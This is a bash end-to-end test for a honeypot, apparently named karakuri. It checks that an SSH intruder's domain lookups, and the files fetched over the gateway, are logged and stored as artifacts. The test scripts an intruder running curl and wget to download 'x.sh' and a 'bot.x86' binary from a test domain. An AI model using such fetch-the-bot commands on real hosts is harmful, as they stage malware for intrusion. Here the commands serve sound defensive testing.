#!/usr/bin/env bash
# Names resolved for real with [capture] fetch = yes: karakuri's resolver
# asks [capture] resolver, a tiny DNS server of the test's own in its
# "internet" namespace, which knows one name (an A record: the address of
# the test's web server there) and says NXDOMAIN for every other. From an
# SSH session on the gateway, curl and wget by that name reach the real
# server through the fetcher and get the files unchanged (file.download
# with the server's sha256); the other name is NXDOMAIN to the intruder
# too; each lookup is a dns.query with resolved = true and the upstream's
# answers.
. "$KARAKURI_SRC/tests/e2e/lib.sh"
[[ -x /usr/bin/python3 ]] || e2e_skip "python3 not installed (Debian's)"
# The "internet" namespace comes second, after the attacker's: its server's
# address, known now, goes into the config.
att_base=$(e2e_free_range) || e2e_fail "no free documentation range"
E2E_RANGES_TAKEN+=" $att_base"
inet_base=$(e2e_free_range) || e2e_fail "no second free documentation range"
E2E_RANGES_TAKEN=""
dns_ip=$inet_base.250
name=dl.karakuri-e2e.net
gone=gone.karakuri-e2e.net
e2e_start_ssh_frontend 10.246.0.0/16 "[capture]
fetch = yes
resolver = $dns_ip
[honeynet]
pool = 1"
login() { e2e_as_attacker sshpass -p pw ssh "${SSHO[@]}" -p $port eve@"$ATT_HOST_IP" "$@"; }
ev() { "$KARAKURI" -c "$conf" events --json --type "$1"; }
e2e_internet
e2e_assert_eq "$dns_ip" "$srv" "the internet server's address"
[[ "$srv" == 203.0.113.* ]] || e2e_log "note: the internet namespace is in $inet_base.0/24"

ip netns exec "$INET_NS" /usr/bin/python3 -u -c '
import functools, http.server, socketserver, sys
class S(http.server.ThreadingHTTPServer):
    def server_bind(self):
        socketserver.TCPServer.server_bind(self)
        self.server_name, self.server_port = "www", 80
S((sys.argv[1], 80), functools.partial(http.server.SimpleHTTPRequestHandler, directory=sys.argv[2])).serve_forever()
' "$srv" "$www" </dev/null >"$E2E_TMP/http.log" 2>&1 &
e2e_defer "kill $! 2>/dev/null"
# The DNS server: A for NAME (its address), no records of other types for
# it, NXDOMAIN for any other name.
ip netns exec "$INET_NS" /usr/bin/python3 -u -c '
import socket, struct, sys
addr, name = sys.argv[1], sys.argv[2].lower()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((addr, 53))
while True:
    m, peer = s.recvfrom(4096)
    if len(m) < 12:
        continue
    i, labels = 12, []
    while i < len(m) and m[i]:
        labels.append(m[i + 1:i + 1 + m[i]].decode("ascii", "replace"))
        i += 1 + m[i]
    qend = i + 5
    qtype = struct.unpack(">H", m[i + 1:i + 3])[0]
    qname = ".".join(labels).lower()
    print("query", qname, qtype, flush=True)
    q = m[12:qend]
    if qname != name:
        r = m[:2] + struct.pack(">HHHHH", 0x8183, 1, 0, 0, 0) + q
    elif qtype == 1:
        r = m[:2] + struct.pack(">HHHHH", 0x8180, 1, 1, 0, 0) + q
        r += struct.pack(">HHHIH", 0xc00c, 1, 1, 60, 4) + socket.inet_aton(addr)
    else:
        r = m[:2] + struct.pack(">HHHHH", 0x8180, 1, 0, 0, 0) + q
    s.sendto(r, peer)
' "$srv" "$name" </dev/null >"$E2E_TMP/dns.log" 2>&1 &
e2e_defer "kill $! 2>/dev/null"
e2e_wait_for 10 curl -sf -o /dev/null "http://$srv/x.sh" || e2e_fail "the test's web server did not start"
dns_ping() {
  ip netns exec "$INET_NS" timeout 3 python3 -c '
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
s.sendto(bytes.fromhex("abcd01000001000000000000") + b"\x04ping\x00\x00\x01\x00\x01", (sys.argv[1], 53))
s.recv(512)' "$srv"
}
e2e_wait_for 10 dns_ping || e2e_fail "the test's DNS server did not start: $(cat "$E2E_TMP/dns.log")"
sha() { sha256sum "$1" | cut -d' ' -f1; }

# A raw query to the gateway's nameserver (perl: the image has no dig): "R tag rcode=N an=N".
rawq() { # tag name
  printf '%s' "ns=\$(awk '/^nameserver/ {print \$2; exit}' /etc/resolv.conf) perl -MIO::Socket::INET -e '
my \$s = IO::Socket::INET->new(Proto => q(udp), PeerAddr => \$ENV{ns}, PeerPort => 53) or exit 0;
my \$q = pack(q(n6), 0x4b4b, 0x0100, 1, 0, 0, 0);
\$q .= chr(length) . \$_ for split /\\./, q($2);
\$q .= pack(q(Cn2), 0, 1, 1);
my \$r = q();
eval { local \$SIG{ALRM} = sub { die }; alarm 5; \$s->send(\$q); \$s->recv(\$r, 512); alarm 0 };
exit 0 if length \$r < 12;
my @h = unpack(q(n6), \$r);
printf qq(R %s rcode=%d an=%d\\n), q($1), \$h[1] & 15, \$h[3];
'"
}

login true || e2e_fail "login"
out=$(login "echo getent \$(timeout 8 getent ahostsv4 $name | head -1)
timeout 30 curl -sf -o /tmp/c http://$name/x.sh; echo curl=\$?
timeout 30 wget -q -O /tmp/w http://$name/bot.x86; echo wget=\$?
timeout 8 getent hosts $gone; echo gone=\$?
$(rawq gone $gone)
sha256sum /tmp/c /tmp/w; echo done" 2>"$E2E_TMP/login.err")
e2e_log "$(tr '\n' ' ' <<<"$out")"
[[ "$out" == *done* ]] || e2e_fail "the commands did not run: $out $(tail -20 "$E2E_TMP/login.err")"
[[ "$(awk '$1 == "getent" {print $2}' <<<"$out")" == "$srv" ]] ||
  e2e_fail "$name did not resolve to $srv: $out; upstream saw: $(cat "$E2E_TMP/dns.log")"
grep -qx curl=0 <<<"$out" || e2e_fail "curl by name: $out"
grep -qx wget=0 <<<"$out" || e2e_fail "wget by name: $out"
grep -qx gone=2 <<<"$out" || e2e_fail "getent of the NXDOMAIN name: $out"
grep -q "^R gone rcode=3 an=0" <<<"$out" || e2e_fail "the raw query of $gone: $out"
grep -q "$(sha "$www/x.sh")  /tmp/c" <<<"$out" || e2e_fail "curl's file differs"
grep -q "$(sha "$www/bot.x86")  /tmp/w" <<<"$out" || e2e_fail "wget's file differs"
grep -q "query $name 1" "$E2E_TMP/dns.log" || e2e_fail "the upstream was not asked: $(cat "$E2E_TMP/dns.log")"

sleep 1
ev file.download >"$E2E_TMP/dl.json"
want() { # url sha
  jq -se --arg u "$1" --arg s "$2" 'any(.[]; .url == $u and .fetched and .sha256 == $s and .artifact == $s)' \
    "$E2E_TMP/dl.json" >/dev/null || e2e_fail "$1: no file.download with sha256 $2: $(cat "$E2E_TMP/dl.json")"
}
want "http://$name/x.sh" "$(sha "$www/x.sh")"
want "http://$name/bot.x86" "$(sha "$www/bot.x86")"
cmp -s "$www/bot.x86" "$E2E_TMP/var/artifacts/$(sha "$www/bot.x86")" || e2e_fail "the artifact is not the server's file"

ev dns.query >"$E2E_TMP/dnsq.json"
jq -se --arg n "$name" --arg a "$srv" 'any(.[]; .qname == $n and .qtype == "A" and .resolved == true
  and .rcode == "NOERROR" and .answer == $a and .answers == [$a])' "$E2E_TMP/dnsq.json" >/dev/null ||
  e2e_fail "no dns.query resolved for $name: $(cat "$E2E_TMP/dnsq.json")"
jq -se --arg n "$gone" 'any(.[]; .qname == $n and .resolved == true and .rcode == "NXDOMAIN")' \
  "$E2E_TMP/dnsq.json" >/dev/null || e2e_fail "no dns.query NXDOMAIN for $gone: $(cat "$E2E_TMP/dnsq.json")"
kill -0 "$KK_PID" || e2e_fail "karakuri is gone"
e2e_log "ok"
